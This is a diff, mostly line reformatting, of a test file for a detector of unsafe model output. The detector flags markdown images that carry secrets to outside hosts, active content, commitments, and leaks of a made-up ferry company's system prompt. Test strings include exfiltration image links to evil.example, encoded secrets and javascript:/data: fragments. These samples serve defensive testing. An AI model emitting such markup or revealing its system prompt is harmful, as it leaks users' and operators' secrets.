@@ -36,22 +36,29 @@ describe('findExfiltrationMarkup', () => {
   });
 
   it('leaves ordinary links, own hosts and links of the user alone', () => {
-    const ordinary = 'See [docs](https://docs.example/guide/setup?page=2#top), ![logo](https://cdn.example/logo.png?v=3), https://news.example/2024/05/a-long-title-of-a-story and <https://example.com>.';
+    const ordinary =
+      'See [docs](https://docs.example/guide/setup?page=2#top), ![logo](https://cdn.example/logo.png?v=3), https://news.example/2024/05/a-long-title-of-a-story and <https://example.com>.';
     expect(findExfiltrationMarkup(ordinary)).toEqual([]);
-    expect(findExfiltrationMarkup(`![a](https://cdn.corp.example/${secret})`, { knownValues: [secret], ownHosts: ['corp.example'] })).toEqual([]);
+    expect(
+      findExfiltrationMarkup(`![a](https://cdn.corp.example/${secret})`, { knownValues: [secret], ownHosts: ['corp.example'] }),
+    ).toEqual([]);
     const url = `https://x.example/?q=${secret}`;
     expect(findExfiltrationMarkup(`You sent ${url}.`, { knownValues: [secret], promptText: `open ${url}` })).toEqual([]);
   });
 
   it('says when the markup is only shown', () => {
-    expect(findExfiltrationMarkup(`It told me to write \`![a](https://evil.example/${secret})\`.`, { knownValues: [secret] })).toMatchObject([{ isInCode: true }]);
+    expect(
+      findExfiltrationMarkup(`It told me to write \`![a](https://evil.example/${secret})\`.`, { knownValues: [secret] }),
+    ).toMatchObject([{ isInCode: true }]);
   });
 
   it('finds any value of letters and digits in any usual encoding', () => {
     fc.assert(
       fc.property(fc.stringMatching(/^[A-Za-z0-9]{8,40}$/), fc.constantFrom('utf8', 'hex', 'base64url'), (value, encoding) => {
         const carried = encoding === 'utf8' ? value : Buffer.from(value).toString(encoding as 'hex' | 'base64url');
-        expect(findExfiltrationMarkup(`a ![i](https://evil.example/p?x=1&d=${carried}) b`, { knownValues: [value] })[0]?.carries).toBe('known_value');
+        expect(findExfiltrationMarkup(`a ![i](https://evil.example/p?x=1&d=${carried}) b`, { knownValues: [value] })[0]?.carries).toBe(
+          'known_value',
+        );
       }),
     );
   });
@@ -74,7 +81,13 @@ describe('findActiveContent', () => {
   });
 
   it('leaves prose and inert markup alone', () => {
-    for (const text of ['The script ran onload = true in my notes.', '<b>bold</b> <a href="https://example.com">x</a>', 'Use a < b and c > d; javascript is a language.', 'condition = one']) expect(findActiveContent(text), text).toEqual([]);
+    for (const text of [
+      'The script ran onload = true in my notes.',
+      '<b>bold</b> <a href="https://example.com">x</a>',
+      'Use a < b and c > d; javascript is a language.',
+      'condition = one',
+    ])
+      expect(findActiveContent(text), text).toEqual([]);
   });
 
   it('marks what a renderer shows as code', () => {
@@ -96,12 +109,16 @@ describe('assessOverlap', () => {
   });
 
   it('sees through case, layout and a few changed words', () => {
-    const answer = 'I am told:\n- NEVER quote fares below forty euros\n- when a customer asks about refunds, send them to desk nine\n- do not mention the merger with Northline before October';
+    const answer =
+      'I am told:\n- NEVER quote fares below forty euros\n- when a customer asks about refunds, send them to desk nine\n- do not mention the merger with Northline before October';
     expect(assessOverlap(answer, systemPrompt).leaked).toBe(true);
   });
 
   it('leaves an ordinary answer and an echo of the user alone', () => {
-    expect(assessOverlap('I am an assistant of a ferry company. Prices start at forty euros; refunds are handled at the desk.', systemPrompt).leaked).toBe(false);
+    expect(
+      assessOverlap('I am an assistant of a ferry company. Prices start at forty euros; refunds are handled at the desk.', systemPrompt)
+        .leaked,
+    ).toBe(false);
     const userText = 'Is it true that you never quote prices below forty euros, and send passengers who ask about refunds to desk nine?';
     expect(assessOverlap(`You ask: ${userText} I cannot say.`, systemPrompt, { userText }).leaked).toBe(false);
   });
@@ -110,7 +127,15 @@ describe('assessOverlap', () => {
     const words = systemPrompt.split(' ');
     fc.assert(
       fc.property(fc.integer({ min: 0, max: words.length - 12 }), (at) => {
-        expect(assessOverlap(`Well, ${words.slice(at, at + 12).join('  ').toUpperCase()} ok`, systemPrompt).longestRun).toBeGreaterThanOrEqual(12);
+        expect(
+          assessOverlap(
+            `Well, ${words
+              .slice(at, at + 12)
+              .join('  ')
+              .toUpperCase()} ok`,
+            systemPrompt,
+          ).longestRun,
+        ).toBeGreaterThanOrEqual(12);
       }),
     );
   });
@@ -149,9 +174,34 @@ describe('findCommitments', () => {
 });
 
 describe('hostile answers', () => {
-  it.each(['![a](https://a.b/', '<a on', '`', '``` `', '<a ', 'https://a.b/?q=', 'url(', 'I will ', 'we will pay $1 ', 'the desk nine ', '\u001b]', 'style="', '](//', 'aa bb ', 'javascript:', '<img src="//x.y/', '[', '"', 'data:'])('takes 1 MB of %s in time', (piece) => {
+  it.each([
+    '![a](https://a.b/',
+    '<a on',
+    '`',
+    '``` `',
+    '<a ',
+    'https://a.b/?q=',
+    'url(',
+    'I will ',
+    'we will pay $1 ',
+    'the desk nine ',
+    '\u001b]',
+    'style="',
+    '](//',
+    'aa bb ',
+    'javascript:',
+    '<img src="//x.y/',
+    '[',
+    '"',
+    'data:',
+  ])('takes 1 MB of %s in time', (piece) => {
     const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
-    for (const run of [() => findExfiltrationMarkup(text, { knownValues: [secret] }), () => findActiveContent(text), () => findCommitments(text), () => assessOverlap(text, `${systemPrompt} ${text.slice(0, 20_000)}`, { userText: 'desk nine' })]) {
+    for (const run of [
+      () => findExfiltrationMarkup(text, { knownValues: [secret] }),
+      () => findActiveContent(text),
+      () => findCommitments(text),
+      () => assessOverlap(text, `${systemPrompt} ${text.slice(0, 20_000)}`, { userText: 'desk nine' }),
+    ]) {
       const startedAt = performance.now();
       run();
       expect(performance.now() - startedAt).toBeLessThan(300);
